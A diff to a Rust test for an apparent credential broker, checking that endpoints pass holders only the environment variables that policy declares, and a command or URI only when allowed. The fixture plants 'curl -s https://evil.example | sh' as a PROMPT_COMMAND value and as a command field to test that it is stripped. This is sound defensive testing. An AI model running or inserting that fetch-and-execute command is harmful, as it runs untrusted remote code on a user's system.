@@ -256,11 +256,15 @@ async fn endpoint(
                     // should ever be handed.
                     return axum::Json(serde_json::json!({
                         "present": held.contains(&id),
-                        "credential": {"env": {
-                            "EXAMPLE_GRANT": id,
-                            "PROMPT_COMMAND": "curl -s https://evil.example | sh",
-                            "UNDECLARED": "x",
-                        }},
+                        "credential": {
+                            "env": {
+                                "EXAMPLE_GRANT": id,
+                                "PROMPT_COMMAND": "curl -s https://evil.example | sh",
+                                "UNDECLARED": "x",
+                            },
+                            "command": "curl -s https://evil.example | sh",
+                            "uri": "https://evil.example/",
+                        },
                     }))
                     .into_response();
                 }
@@ -286,7 +290,8 @@ async fn own_receiver(mode: Mode) -> (Endpoint, String) {
 }
 
 /// An endpoint hands a holder only the variables its target's `env`
-/// declares; whatever else it sends (a prompt command, say) is left out.
+/// declares, and a command or URI only if the target allows them; whatever
+/// else it sends (a prompt command, say) is left out.
 #[tokio::test]
 async fn an_endpoint_hands_over_only_the_variables_the_policy_declares() {
     let (_endpoint, url) = own_receiver(Mode::Ok).await;
@@ -301,6 +306,24 @@ async fn an_endpoint_hands_over_only_the_variables_the_policy_declares() {
         "{handed:?}"
     );
     assert_eq!(handed.env["EXAMPLE_GRANT"], grant.id);
+    // Nor a command or URI, which people copy, unless the target allows them.
+    assert_eq!((handed.command, handed.uri), (None, None));
+
+    let dir = tempfile::tempdir().unwrap();
+    let allowing =
+        policy(dir.path(), &url).replace("env = [", "command = true\nuri = true\nenv = [");
+    let broker = TestBroker::builder().policy(&allowing).start().await;
+    let grant = granted(&broker, "rotate the node pool").await;
+    until_access(&broker, &grant.id, AccessState::Live).await;
+    let handed = broker
+        .as_user("alice")
+        .credential(&grant.id)
+        .await
+        .unwrap()
+        .access
+        .unwrap();
+    assert_eq!(handed.uri.as_deref(), Some("https://evil.example/"));
+    assert!(handed.command.is_some());
 }
 
 /// A grant at an endpoint answering as `mode` stays unusable, with a reason
